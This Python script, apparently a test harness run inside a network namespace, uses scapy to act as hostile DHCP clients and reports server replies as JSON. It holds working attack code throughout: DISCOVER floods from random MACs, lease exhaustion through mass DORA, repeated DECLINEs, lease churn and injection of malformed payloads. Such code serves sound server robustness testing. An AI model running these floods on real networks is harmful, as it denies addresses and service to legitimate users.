"""Hostile DHCP clients on a LAN, from inside a namespace: frames built by scapy, sent and
heard on a raw socket, every client from a random MAC (Ethernet source and chaddr).

    dhcp_flood.py discover IFACE COUNT SECONDS  COUNT DISCOVERs spread over SECONDS
    dhcp_flood.py dora IFACE COUNT SECONDS      COUNT MACs try DISCOVER, OFFER, REQUEST, ACK
    dhcp_flood.py decline IFACE ROUNDS SECONDS  one MAC: DISCOVER, then DECLINE the offer
    dhcp_flood.py churn IFACE SECONDS           MACs doing DORA then RELEASE, for SECONDS
    dhcp_flood.py send IFACE FILE               FILE: lines "NAME HEX [badsum]", each a UDP
                                                payload to port 67 (badsum: a wrong UDP
                                                checksum); then listens 2 s

Bounded in count and time: every wait for a reply is at most WAIT s, every mode ends by
SECONDS (send: by its file). Prints one JSON object: what was sent, what came back (DHCP
replies by type, ARP requests by the address asked for)."""
import json
import random
import select
import socket
import sys
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Raw, raw

WAIT = 0.5
MAX_CYCLES = 100000
PACKET_OUTGOING = 4
TYPES = {2: "offers", 5: "acks", 6: "naks"}


class Lan:
    def __init__(self, iface):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.s.bind((iface, 0))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self.heard = {"offers": 0, "acks": 0, "naks": 0, "arps": {}}
        self.sent = 0

    def send(self, frame):
        self.s.send(frame)
        self.sent += 1

    def hear(self, until, on_reply=None):
        """Read frames until `until` (monotonic), counting them; on_reply(xid, type,
        yiaddr, server id) for each DHCP reply, and a true result ends the wait. Returns
        that result, or None."""
        while True:
            left = until - time.monotonic()
            if left <= 0 or not select.select([self.s], [], [], left)[0]:
                return None
            f, addr = self.s.recvfrom(2048)
            if addr[2] == PACKET_OUTGOING:
                continue
            got = self._note(f)
            if got and on_reply is not None:
                done = on_reply(*got)
                if done:
                    return done

    def _note(self, f):
        if f[12:14] == b"\x08\x06" and f[20:22] == b"\x00\x01":  # an ARP request
            who = socket.inet_ntoa(f[38:42])
            self.heard["arps"][who] = self.heard["arps"].get(who, 0) + 1
            return None
        if f[12:14] != b"\x08\x00" or f[23] != 17:
            return None
        u = 14 + (f[14] & 15) * 4
        if f[u:u + 4] != b"\x00\x43\x00\x44":  # UDP 67 -> 68
            return None
        b = u + 8
        mtype, sid, i = 0, None, b + 240
        while i + 1 < len(f) and f[i] != 255:
            if f[i] == 0:
                i += 1
                continue
            if f[i] == 53:
                mtype = f[i + 2]
            elif f[i] == 54:
                sid = socket.inet_ntoa(f[i + 2:i + 6])
            i += 2 + f[i + 1]
        name = TYPES.get(mtype, "other")
        self.heard[name] = self.heard.get(name, 0) + 1
        return int.from_bytes(f[b + 4:b + 8], "big"), mtype, socket.inet_ntoa(f[b + 16:b + 20]), sid


class Clients:
    """Clients doing DORA at once, by xid: each REQUESTs what it is offered (a RELEASE
    follows an ACK if `release`). A callback for Lan.hear."""

    def __init__(self, lan, release=False):
        self.lan, self.release = lan, release
        self.macs = {}       # xid -> MAC, until the ACK or NAK
        self.bound = []      # addresses ACKed

    def start(self, mac, xid):
        self.macs[xid] = mac
        self.lan.send(frame(mac, xid, "discover"))

    def __call__(self, xid, mtype, addr, sid):
        mac = self.macs.get(xid)
        if mac is None:
            return None
        if mtype == 2:
            self.lan.send(frame(mac, xid, "request", server_id=sid, requested_addr=addr))
            return None
        del self.macs[xid]
        if mtype == 5:
            self.bound.append(addr)
            if self.release:
                self.lan.send(frame(mac, xid, "release", ciaddr=addr, server_id=sid))
        return "done"


def frame(mac, xid, mtype, ciaddr="0.0.0.0", **opts):
    m = ":".join("%02x" % x for x in mac)
    options = [("message-type", mtype)] + list(opts.items()) + ["end"]
    return raw(Ether(src=m, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
               / UDP(sport=68, dport=67)
               / BOOTP(chaddr=mac + bytes(10), xid=xid, ciaddr=ciaddr, flags=0x8000)
               / DHCP(options=options))


def new_mac(r):
    return bytes([2] + [r.getrandbits(8) for _ in range(5)])


def flood(lan, r, count, seconds):
    frames = [frame(new_mac(r), r.getrandbits(32), "discover") for _ in range(count)]
    print("flooding", flush=True)
    t0 = time.monotonic()
    for i, f in enumerate(frames):
        lan.hear(t0 + i * seconds / count)  # paced, listening meanwhile
        lan.send(f)
    lan.hear(time.monotonic() + WAIT)
    return {"seconds": round(time.monotonic() - t0, 2)}


def doras(lan, r, count, seconds):
    """COUNT MACs start DORA, 100 a second, within SECONDS."""
    clients = Clients(lan)
    t0 = time.monotonic()
    for i in range(count):
        lan.hear(min(t0 + i / 100, t0 + seconds), clients)
        clients.start(new_mac(r), r.getrandbits(32))
    lan.hear(min(time.monotonic() + 2 * WAIT, t0 + seconds), clients)
    return {"tried": count, "bound": len(clients.bound), "distinct": len(set(clients.bound))}


def declines(lan, r, rounds, seconds):
    mac, end, offered = new_mac(r), time.monotonic() + seconds, []

    def offer(xid, mtype, addr, sid):
        return (addr, sid) if xid == want and mtype == 2 else None

    while len(offered) < rounds and time.monotonic() < end:
        want = r.getrandbits(32)
        lan.send(frame(mac, want, "discover"))
        got = lan.hear(time.monotonic() + WAIT, offer)
        if got is not None:
            offered.append(got[0])
            lan.send(frame(mac, want, "decline", server_id=got[1], requested_addr=got[0]))
    return {"mac": ":".join("%02x" % x for x in mac), "declined": offered}


def churn(lan, r, seconds):
    """One client at a time: DORA, then RELEASE, for SECONDS."""
    clients = Clients(lan, release=True)
    end, cycles = time.monotonic() + seconds, 0
    while cycles < MAX_CYCLES and time.monotonic() < end:
        clients.start(new_mac(r), r.getrandbits(32))
        lan.hear(time.monotonic() + 2 * WAIT, clients)
        cycles += 1
    lan.hear(time.monotonic() + WAIT, clients)  # a late ACK is released too
    return {"cycles": cycles, "bound": len(clients.bound)}


def send_file(lan, path):
    names = []
    with open(path) as lines:
        for line in lines:
            name, data, *flags = line.split()
            f = bytearray(raw(Ether(dst="ff:ff:ff:ff:ff:ff")
                              / IP(src="0.0.0.0", dst="255.255.255.255")
                              / UDP(sport=68, dport=67) / Raw(bytes.fromhex(data))))
            if "badsum" in flags:  # the UDP checksum (at 14 + 20 + 6): wrong, not 0
                c = (int.from_bytes(f[40:42], "big") + 0x1111) & 0xFFFF or 1
                f[40:42] = c.to_bytes(2, "big")
            lan.send(bytes(f))
            names.append(name)
            lan.hear(time.monotonic() + 0.01)
    lan.hear(time.monotonic() + 2)
    return {"names": len(names)}


def main(mode, iface, *args):
    r = random.Random()
    lan = Lan(iface)
    if mode == "discover":
        out = flood(lan, r, int(args[0]), float(args[1]))
    elif mode == "dora":
        out = doras(lan, r, int(args[0]), float(args[1]))
    elif mode == "decline":
        out = declines(lan, r, int(args[0]), float(args[1]))
    elif mode == "churn":
        out = churn(lan, r, float(args[0]))
    elif mode == "send":
        out = send_file(lan, args[0])
    else:
        raise SystemExit(__doc__)
    out.update(lan.heard, sent=lan.sent)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
